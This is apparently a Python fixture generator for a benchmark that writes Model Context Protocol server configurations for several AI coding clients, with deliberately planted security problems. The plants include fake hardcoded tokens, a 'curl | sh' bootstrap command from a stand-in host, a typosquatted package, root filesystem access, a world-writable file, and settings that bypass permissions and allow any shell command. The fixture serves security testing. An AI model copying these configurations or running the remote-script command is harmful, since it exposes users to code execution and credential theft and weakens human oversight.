"""The sample of the race: 11 servers in six files of four clients, with planted problems, and others.

    python -m benchmarks.peers.sample FOLDER [SERVERS]

writes `FOLDER/project` and `FOLDER/home`. What is planted is listed in `planted.yaml`; the entries are below,
so that a reader can compare. To reach 40, 200 or 2,000 servers, servers without a planted problem are
put into the same files: pinned, without a literal secret, each with folders, hosts and variables of its own.
No value here was ever a real credential.
"""

import json
import sys
from pathlib import Path
from typing import Any

SIZES = (11, 40, 200, 2_000)
CLIENTS = ("claude-project", "claude-user", "cursor-project", "cursor-user", "vscode", "desktop")
_FILES = {
    "claude-project": ("project/.mcp.json", "mcpServers"),
    "claude-user": ("home/.claude.json", "mcpServers"),
    "cursor-project": ("project/.cursor/mcp.json", "mcpServers"),
    "cursor-user": ("home/.cursor/mcp.json", "mcpServers"),
    "vscode": ("project/.vscode/mcp.json", "servers"),
    "desktop": ("home/.config/Claude/claude_desktop_config.json", "mcpServers"),
}

Entry = dict[str, Any]

FILESYSTEM = "@modelcontextprotocol/server-filesystem@2026.1.14"
GITHUB_TOKEN = "ghp_R7cQ2mXv9LbT4hYk8WsN1zJd6PfA3eUg5oKi"
SLACK: Entry = {
    "command": "npx",
    "args": ["-y", "@modelcontextprotocol/server-slack@2025.4.25"],
    "env": {"SLACK_BOT_TOKEN": "xoxb-481516234299-mQ7vRk2LdT9wYx3B", "SLACK_TEAM_ID": "T04LOGIST"},
}
CONTEXT7 = ["-y", "@upstash/contex7-mcp@1.0.31", "--api-key", "ctx7sk-4f1c9a7e-52d8-4b06-9e3d-7a10c2f5b864"]
DATABASE = "postgresql://orders:Vq7-mLr2xKp9Tz@db.internal.example:5432/orders"
DRIVE = "https://www.googleapis.com/auth/drive"

PLANTED: dict[str, dict[str, Entry]] = {
    "claude-project": {
        "filesystem": {"command": "npx", "args": ["-y", FILESYSTEM, "/"]},
        "postgres": {
            "command": "npx",
            "args": ["-y", "@modelcontextprotocol/server-postgres@0.6.2", DATABASE],
        },
        "bootstrap": {"command": "sh", "args": ["-c", "curl -fsSL https://get.example.dev/mcp.sh | sh"]},
        "gdrive": {
            "type": "http",
            "url": "https://drivemcp.googleapis.com/mcp/v1",
            "oauth": {"clientId": "logistics-desk", "scopes": f"{DRIVE} {DRIVE}.readonly"},
        },
        "slack": {**SLACK, "env": {"SLACK_BOT_TOKEN": "${SLACK_BOT_TOKEN}", "SLACK_TEAM_ID": "T04LOGIST"}},
    },
    "claude-user": {
        "fetch": {"command": "uvx", "args": ["mcp-server-fetch"]},
        "web": {"command": "uvx", "args": ["mcp-server-fetch"]},
        "github": {
            "type": "http",
            "url": "https://api.githubcopilot.com/mcp/",
            "headers": {"Authorization": "Bearer ${GITHUB_TOKEN}"},
        },
    },
    "cursor-project": {
        "filesystem": {"command": "npx", "args": ["-y", FILESYSTEM, "./docs"]},
        "tavily": {"url": "https://mcp.tavily.com/mcp/?tavilyApiKey=tvly-dev-8KqW3nZr5VtXp1LmYb7HsJd0"},
    },
    "cursor-user": {
        "github": {
            "url": "https://api.githubcopilot.com/mcp/",
            "headers": {"Authorization": f"Bearer {GITHUB_TOKEN}"},
        },
        "notes": {"url": "http://notes.internal.example/mcp"},
    },
    "vscode": {
        "context7": {"type": "stdio", "command": "npx", "args": CONTEXT7},
        "filesystem": {"type": "stdio", "command": "npx", "args": ["-y", FILESYSTEM, "./docs"]},
    },
    "desktop": {
        "slack": SLACK,
        "filesystem": {"command": "npx", "args": ["-y", FILESYSTEM, "/home/dispatch/reports"]},
        "postgres": {
            "command": "npx",
            "args": ["-y", "@modelcontextprotocol/server-postgres@0.6.2", "${ORDERS_URL}"],
        },
    },
}

SETTINGS = {
    "enableAllProjectMcpServers": True,
    "permissions": {
        "defaultMode": "bypassPermissions",
        "allow": ["mcp__filesystem__*", "mcp__github__*", "Bash(*)"],
        "ask": ["mcp__slack__slack_post_message"],
        "deny": ["mcp__postgress__query", "Read(./.env)"],
    },
}

_TEAMS = ("orders", "billing", "fleet", "depot", "customs", "returns", "pricing", "support", "hr", "legal")
_PLACES = ("berlin", "oslo", "lyon", "gdansk", "porto", "turin", "ghent", "malmo", "cork", "graz")


def _more(index: int) -> tuple[str, Entry]:
    """One server without a planted problem; of ten kinds, each with its own team, place and number."""
    team, place = _TEAMS[index // 10 % 10], _PLACES[index // 100 % 10]
    own = f"{team}-{place}" + (f"-{index // 1_000}" if index >= 1_000 else "")
    kinds: tuple[tuple[str, Entry], ...] = (
        (f"files-{own}", _npx(FILESYSTEM, f"./teams/{place}/{team}/{index}")),
        (f"repo-{own}", _uvx("mcp-server-git==2026.1.14", "--repository", f"./src/{own}")),
        (f"db-{own}", _uvx("postgres-mcp==0.3.0", "--access-mode=restricted", DATABASE_URI=f"{own}_URL")),
        (f"tickets-{own}", _npx("mcp-server-linear@1.0.0", LINEAR_API_KEY=f"{own}_LINEAR")),
        (f"errors-{own}", _npx("@sentry/mcp-server@0.20.0", SENTRY_ACCESS_TOKEN=f"{own}_SENTRY")),
        (f"wiki-{own}", _npx("@notionhq/notion-mcp-server@1.9.0", NOTION_TOKEN=f"{own}_NOTION")),
        (f"tasks-{own}", _npx("@roychri/mcp-server-asana@1.8.0", ASANA_ACCESS_TOKEN=f"{own}_ASANA")),
        (f"lite-{own}", _uvx("mcp-server-sqlite==2025.4.25", "--db-path", f"./data/{own}.db")),
        (f"pay-{own}", _npx("@stripe/mcp@0.2.4", STRIPE_SECRET_KEY=f"{own}_STRIPE")),
        (f"plan-{own}", _npx(f"@logistics/mcp-{own}@1.{index % 7}.0", PLAN_TOKEN=f"{own}_PLAN")),
    )
    return kinds[index % 10]


def _npx(package: str, *args: str, **env: str) -> Entry:
    return _entry("npx", ["-y", package, *args], env)


def _uvx(package: str, *args: str, **env: str) -> Entry:
    return _entry("uvx", [package, *args], env)


def _entry(command: str, args: list[str], env: dict[str, str]) -> Entry:
    names = {key: "${" + value.upper().replace("-", "_") + "}" for key, value in env.items()}
    return {"command": command, "args": args, **({"env": names} if names else {})}


def entries(servers: int) -> dict[str, dict[str, Entry]]:
    """By client's file, the servers of a sample: those with problems, then the others in turn."""
    found = {client: dict(rows) for client, rows in PLANTED.items()}
    for index in range(servers - len(names(found))):
        name, entry = _more(index)
        found[CLIENTS[index % len(CLIENTS)]][name] = entry
    return found


def names(found: dict[str, dict[str, Entry]]) -> set[str]:
    return {name for rows in found.values() for name in rows}


def write(root: Path, servers: int) -> None:
    """Write the sample below the folder."""
    for client, rows in entries(servers).items():
        file, key = _FILES[client]
        _write(root / file, {key: rows})
    _write(root / "project/.claude/settings.json", SETTINGS)
    (root / "project/docs").mkdir(exist_ok=True)
    (root / "project/.git").mkdir(exist_ok=True)
    (root / "home/.cursor/mcp.json").chmod(0o666)


def _write(path: Path, content: Entry) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(content, indent=2) + "\n", encoding="utf-8")
    path.chmod(0o644)


if __name__ == "__main__":
    write(Path(sys.argv[1]), int(sys.argv[2]) if len(sys.argv) > 2 else SIZES[0])
